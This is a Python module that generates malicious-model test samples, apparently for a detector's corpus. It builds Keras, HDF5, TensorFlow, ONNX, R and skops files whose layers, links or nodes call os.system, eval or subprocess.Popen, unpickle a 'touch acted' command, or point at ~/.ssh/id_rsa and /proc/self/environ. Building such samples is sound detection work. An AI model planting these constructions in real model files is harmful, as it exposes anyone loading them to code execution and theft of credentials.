# ruff: noqa: E501 - tables of samples, one to a line
"""Layers, graphs and weights that reach for files, hosts or code.

Written without knowledge of the detector, and not tried with their loaders: today's Keras, skops and onnxruntime
refuse most of them.
"""

import base64
import io
import json
import struct
import zlib
from collections.abc import Iterator
from random import Random

import h5py
import numpy as np

from corpus.corpus_samples import Kind, Sample, stored_zip
from corpus.second_look.second_builders import COMMAND

__all__ = ["KINDS", "keras_own"]


def _function(module: str, name: str) -> dict[str, object]:
    """A function of that name, as Keras writes it."""
    return {"module": module, "class_name": "function", "config": name, "registered_name": name}


def _layer(place: str, name: str, **config: object) -> dict[str, object]:
    """A layer of that name, as Keras writes it."""
    return {"module": place, "class_name": name, "config": {"name": "x", **config}, "registered_name": None}


def keras_reaches(rng: Random) -> Iterator[Sample]:
    """Keras layers and functions of Keras' own that read, write, fetch or load code."""
    made = {
        "lookup": _layer("keras.layers", "StringLookup", vocabulary="/etc/hostname"), "integers": _layer("keras.layers", "IntegerLookup", vocabulary="/etc/hostname"), "text": _layer("keras.layers", "TextVectorization", vocabulary="http://192.0.2.1/x"), "saved": _layer("keras.layers", "TFSMLayer", filepath="/tmp/evil"), "saved-near": _layer("keras.layers", "TFSMLayer", filepath="assets/evil", call_endpoint="serve"),
        "jax": _layer("keras.layers", "JaxLayer", call_fn=_function("builtins", "eval")), "flax": _layer("keras.layers", "FlaxLayer", module=_function("os", "system")), "csv": _layer("keras.callbacks", "CSVLogger", filename="acted"), "remote": _layer("keras.callbacks", "RemoteMonitor", root="http://192.0.2.1"), "checkpoint": _layer("keras.callbacks", "ModelCheckpoint", filepath="acted"), "board": _layer("keras.callbacks", "TensorBoard", log_dir="acted"),
        "image": _layer("keras.layers", "Lambda", function=_function("keras.utils", "load_img")), "save-image": _layer("keras.layers", "Lambda", function=_function("keras.utils", "save_img")), "load": _layer("keras.layers", "Lambda", function=_function("keras.saving", "load_model")), "plot": _layer("keras.layers", "Lambda", function=_function("keras.utils", "plot_model")), "weights": _layer("keras.layers", "Lambda", function=_function("keras.saving", "load_weights")), "numpy": _layer("keras.layers", "Lambda", function=_function("numpy", "load")),
        "activation": _layer("keras.layers", "Dense", units=1, activation=_function("keras.src.utils.file_utils", "remove")), "dataset": _layer("keras.layers", "Lambda", function=_function("keras.utils", "image_dataset_from_directory")), "mirror": _layer("keras.src.saving.saving_lib", "load_model", filepath="x.keras"), "lazy": _layer("keras.src.utils.module_utils", "LazyModule", module="antigravity"), "pickled": _layer("keras.layers", "TorchModuleWrapper", module=base64.b64encode(zlib.compress(b"cos\nsystem\n(S'touch acted'\ntR.")).decode()),
    }  # fmt: skip
    yield from _models(made, rng)


def keras_own(rng: Random) -> Iterator[Sample]:
    """Layers of a class that is not Keras' own, which has to be there already."""
    registered = {"module": None, "class_name": "Evil", "config": {}, "registered_name": "evil>Evil"}
    yield from _models({"registered": registered, "own": _layer("evil_module", "Layer")}, rng)


def _models(made: dict[str, dict[str, object]], rng: Random) -> Iterator[Sample]:
    for name, each in made.items():
        model = {
            "module": "keras",
            "class_name": "Sequential",
            "config": {"name": "m", "layers": [each]},
            "registered_name": None,
        }
        yield Sample(
            name=f"{name}.keras",
            data=stored_zip(
                {"metadata.json": b'{"keras_version": "3.10.0"}', "config.json": json.dumps(model).encode()}
            ),
        )
        if rng.random() < 0.4:
            yield Sample(
                name=f"{name}.h5", data=_h5({"model_config": json.dumps(model), "keras_version": "3.10.0"})
            )


def _h5(attributes: dict[str, str]) -> bytes:
    out = io.BytesIO()
    with h5py.File(out, "w") as file:
        file.create_dataset("w", data=np.zeros(2), track_times=False)
        for name, value in attributes.items():
            file.attrs[name] = value
    return out.getvalue()


def hdf5_elsewhere(rng: Random) -> Iterator[Sample]:
    """HDF5 whose weights stand in other files: external links, raw external data, virtual data."""
    for target in (
        "/etc/hostname",
        "../../secret.h5",
        "/proc/self/environ",
        "../weights.bin",
        "//192.0.2.1/share/x.h5",
        "~/.ssh/id_rsa",
    ):
        for way in ("link", "raw", "virtual"):
            out = io.BytesIO()
            with h5py.File(out, "w") as file:
                file.attrs["keras_version"] = "2.15.0"
                group = file.create_group("model_weights/dense")
                if way == "link":
                    group["kernel"] = h5py.ExternalLink(target, "/w")
                elif way == "raw":
                    group.create_dataset("kernel", (8,), "u1", external=[(target, 0, 8)], track_times=False)
                else:
                    layout = h5py.VirtualLayout((4,), "f4")
                    layout[:] = h5py.VirtualSource(target, "w", (4,), "f4")
                    group.create_virtual_dataset("kernel", layout)
            data = out.getvalue()
            name = rng.choice(("model.h5", "weights.hdf5", "model.keras"))
            if name == "model.keras":
                data = stored_zip(
                    {
                        "metadata.json": b'{"keras_version": "3.10.0"}',
                        "config.json": b'{"module": "keras", "class_name": "Sequential", "config": {"name": "m", "layers": []}}',
                        "model.weights.h5": data,
                    }
                )
            yield Sample(name=name, data=data)


def _field(number: int, value: bytes | int) -> bytes:
    if isinstance(value, int):
        return _varint(number << 3) + _varint(value)
    return _varint(number << 3 | 2) + _varint(len(value)) + value


def _varint(value: int) -> bytes:
    out = b""
    while value > 0x7F:
        out += bytes((value & 0x7F | 0x80,))
        value >>= 7
    return out + bytes((value,))


def tensorflow_reaches(rng: Random) -> Iterator[Sample]:
    """TensorFlow operations that read or write files or connect, other than the plain ones."""
    operations = (
        "TextLineDataset", "TFRecordDataset", "FixedLengthRecordDatasetV2", "CSVDatasetV2", "SaveV2", "RestoreV2", "Save", "MergeV2Checkpoints", "SaveSlices", "DebugIdentityV2", "DebugNumericSummary", "CreateSummaryFileWriter", "CreateSummaryDbWriter", "ImmutableConst",
        "InitializeTableFromTextFileV2", "DataServiceDatasetV4", "RegisterDatasetV2", "RpcClient", "SaveDatasetV2", "LoadDataset", "SnapshotDatasetV2", "SqlDataset", "DecodeProtoV2", "DistributedSave", "FileSystemSetConfiguration", "CacheDatasetV2",
    )  # fmt: skip
    for op in operations:
        value = _field(
            5,
            _field(1, b"value")
            + _field(2, _field(8, _field(1, 7) + _field(2, b"") + _field(8, b"/etc/hostname"))),
        )
        named = _field(1, _field(1, b"name") + _field(2, b"Const") + value)
        node = _field(1, b"n1") + _field(2, op.encode()) + _field(3, b"name") * 2
        if op == "DecodeProtoV2":
            node += _field(5, _field(1, b"descriptor_source") + _field(2, _field(2, b"/etc/hostname")))
        if op == "ImmutableConst":
            node += _field(5, _field(1, b"memory_region_name") + _field(2, _field(2, b"/etc/hostname")))
        if op.startswith("Debug"):
            node += _field(
                5, _field(1, b"debug_urls") + _field(2, _field(1, _field(2, b"file:///tmp/acted")))
            )
        inner = node.replace(_field(3, b"name"), _field(3, b"name:output:0"))
        function = _field(1, _field(1, b"f")) + named.replace(b"\n", b"\x1a", 1) + _field(3, inner)
        graph = named + (_field(1, node) if rng.random() < 0.6 else _field(2, _field(1, function)))
        graph += _field(4, _field(1, 1087))
        yield Sample(
            name="saved_model.pb",
            data=_field(1, 1)
            + _field(2, _field(1, _field(4, b"serve") + _field(5, b"2.15.0")) + _field(2, graph)),
        )


def onnx_elsewhere(rng: Random) -> Iterator[Sample]:
    """ONNX whose outside data is named in attributes, subgraphs, functions or sparse tensors, and operators that are code."""
    for target in ("/etc/hostname", "../../secret.bin", "..\\..\\x.bin", "./../x"):
        entry = _field(13, _field(1, b"location") + _field(2, target.encode()))
        tensor = _field(1, 4) + _field(2, 1) + _field(8, b"w") + entry + _field(14, 1)
        twice = (
            _field(1, 4)
            + _field(2, 1)
            + _field(8, b"w")
            + _field(13, _field(1, b"location") + _field(2, b"weights.bin"))
            + entry
            + _field(14, 1)
        )
        constant = _field(
            1,
            _field(2, b"w")
            + _field(4, b"Constant")
            + _field(5, _field(1, b"value") + _field(5, tensor) + _field(20, 4)),
        )
        branch = _field(
            1,
            _field(1, b"c")
            + _field(2, b"y")
            + _field(4, b"If")
            + _field(5, _field(1, b"then_branch") + _field(6, constant + _field(2, b"b")) + _field(20, 5)),
        )
        made = {
            "constant": constant,
            "branch": branch,
            "sparse": _field(15, _field(1, tensor) + _field(2, tensor) + _field(3, 1)),
            "twice": _field(5, twice),
            "context": _field(
                1,
                _field(2, b"y")
                + _field(4, b"EPContext")
                + _field(7, b"com.microsoft")
                + _field(5, _field(1, b"embed_mode") + _field(3, 0) + _field(20, 2))
                + _field(5, _field(1, b"ep_cache_context") + _field(4, target.encode()) + _field(20, 3)),
            ),
        }
        plain = _field(1, _field(1, b"x") + _field(2, b"y") + _field(4, b"Relu"))
        for name, body in made.items():
            yield Sample(
                name=f"{name}.onnx",
                data=_field(1, 8)
                + _field(2, b"pytorch")
                + _field(7, plain + body + _field(2, b"g"))
                + _field(8, _field(2, 17)),
            )
        function = _field(
            25,
            _field(1, b"F")
            + _field(
                7,
                _field(2, b"w")
                + _field(4, b"Constant")
                + _field(5, _field(1, b"value") + _field(5, tensor) + _field(20, 4)),
            )
            + _field(10, b"local"),
        )
        yield Sample(
            name="function.onnx",
            data=_field(1, 8) + _field(7, plain + _field(2, b"g")) + _field(8, _field(2, 17)) + function,
        )


def r_promises(rng: Random) -> Iterator[Sample]:
    """R's serialisation with promises, which are evaluated as soon as the object is touched."""

    def text(value: str) -> bytes:
        return struct.pack(">iI", 0x00040009, len(value)) + value.encode()

    def symbol(value: str) -> bytes:
        return struct.pack(">i", 1) + text(value)

    for number in range(16):
        strings = struct.pack(">iI", 16, 1) + text(COMMAND + " " * number)
        language = (
            struct.pack(">i", 6) + symbol("system") + struct.pack(">i", 2) + strings + struct.pack(">i", 0xFE)
        )
        promise = struct.pack(">iii", 0x405, 0xFD, 0xFC) + language
        head = b"X\n" + struct.pack(">iii", 2, 0x00040300, 0x00020300)
        data = head + promise
        if number % 4 > 1:
            data = (
                b"RDX2\n"
                + head
                + struct.pack(">i", 0x402)
                + symbol("model")
                + promise
                + struct.pack(">i", 0xFE)
            )
        way = rng.choice(("gz", "bz2", "xz", ""))
        packed = (
            data
            if not way
            else __import__({"gz": "gzip", "bz2": "bz2", "xz": "lzma"}[way]).compress(
                data, **({"mtime": 0} if way == "gz" else {})
            )
        )
        yield Sample(name=f"model{number}.{'RData' if number % 4 > 1 else 'rds'}", data=packed)


def skops_nodes(rng: Random) -> Iterator[Sample]:
    """skops schemas whose nodes get attributes, call, or name what they are not."""
    for module, name in (
        ("os", "system"),
        ("builtins", "eval"),
        ("subprocess", "Popen"),
        ("operator", "methodcaller"),
        ("builtins", "getattr"),
    ):
        base = {"__class__": name, "__module__": module, "__id__": 1}
        args = {
            "__class__": "list",
            "__module__": "builtins",
            "__loader__": "ListNode",
            "content": [
                {
                    "__class__": "str",
                    "__module__": "builtins",
                    "__loader__": "JsonNode",
                    "content": '"touch acted"',
                    "is_json": True,
                }
            ],
            "__id__": 2,
        }
        nodes = (
            base | {"__loader__": "OperatorFuncNode", "attrs": args}, base | {"__loader__": "ReduceNode", "reduce": {"constructor": base | {"__loader__": "TypeNode"}, "args": args}}, {"__class__": "partial", "__module__": "functools", "__loader__": "PartialNode", "content": {"func": base | {"__loader__": "FunctionNode", "content": {"module_path": module, "function": name}}, "args": args, "kwds": args, "namespace": args}},
            {"__class__": "method", "__module__": "builtins", "__loader__": "MethodNode", "content": {"func": name, "obj": base | {"__loader__": "TypeNode"}}}, {"__class__": "Pipeline", "__module__": "sklearn.pipeline", "__loader__": "ObjectNode", "content": {"__class__": "dict", "__module__": "builtins", "__loader__": "DictNode", "content": {"steps": base | {"__loader__": "TypeNode"}}, "key_types": args}},
        )  # fmt: skip
        for node in nodes:
            yield Sample(
                name=rng.choice(("model.skops", "pipeline.skops")),
                data=stored_zip(
                    {"schema.json": json.dumps(node | {"protocol": 2, "_skops_version": "0.11.0"}).encode()}
                ),
            )


KINDS: dict[str, Kind] = {
    each.__name__: each
    for each in (keras_reaches, hdf5_elsewhere, tensorflow_reaches, onnx_elsewhere, r_promises, skops_nodes)
}
